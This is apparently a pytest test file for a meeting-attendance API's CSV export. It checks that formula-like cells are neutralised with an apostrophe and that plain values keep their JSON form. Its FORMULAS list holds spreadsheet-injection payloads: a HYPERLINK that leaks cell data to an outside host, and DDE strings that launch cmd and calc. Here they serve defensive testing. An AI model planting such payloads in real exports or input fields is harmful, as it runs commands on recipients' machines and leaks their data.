"""CSV exports: cells a spreadsheet would run as a formula are neutralised (OWASP), plain numbers
stay numbers, and values are spelled as in the JSON, in every export: a cluster's members, a
meeting's attendance and PLO's attendance feed."""

from __future__ import annotations

import csv
import io

import pytest

from api.core.csv_export import csv_cell
from api.core.extensions import db
from tests.resources import test_meetings
from tests.resources.test_attendance_feed import _register
from tests.resources.test_meetings import MEETINGS, _begin, _planned

world = test_meetings.world

FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1;"Klik her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_shown_as_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-12, "-12"),
        ("-12", "-12"),
        ("-1234.50", "-1234.50"),
        (0, "0"),
        (True, "true"),
        (False, "false"),
        (None, ""),
        ("Lægerne i Viborg", "Lægerne i Viborg"),
        ("2026-03-04T15:30:00+00:00", "2026-03-04T15:30:00+00:00"),
        (["a", "b"], "a b"),
        ("a=b", "a=b"),
    ],
)
def test_plain_values_keep_their_json_spelling(value, cell):
    assert csv_cell(value) == cell


def _csv(client, url: str, headers: dict[str, str]) -> list[dict[str, str]]:
    response = client.get(url, headers={**headers, "Accept": "text/csv"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("name", [FORMULAS[0], FORMULAS[1]])
def test_a_member_named_as_a_formula_is_exported_as_text_everywhere(client, world, name):
    member = world.people["member"]
    member.name = name
    db.session.commit()
    meeting = _planned(client, world)
    _begin(meeting["id"])
    _register(client, world, meeting["id"], member=True, colleague=False)
    exports = {
        "members": (f"/api/v1/clusters/{world.viborg.id}/members", "coordinator"),
        "meeting attendance": (f"{MEETINGS}/{meeting['id']}/attendance", "coordinator"),
        "PLO's feed": ("/api/v1/attendance", "plo_client"),
    }
    for export, (url, caller) in exports.items():
        rows = _csv(client, url, world.headers[caller])
        names = {row["name"] for row in rows if row["user_id"] == str(member.id)}
        assert names == {"'" + name}, export
        attended = {row["attended"] for row in rows if "attended" in row}
        assert attended <= {"true", "false"}, export
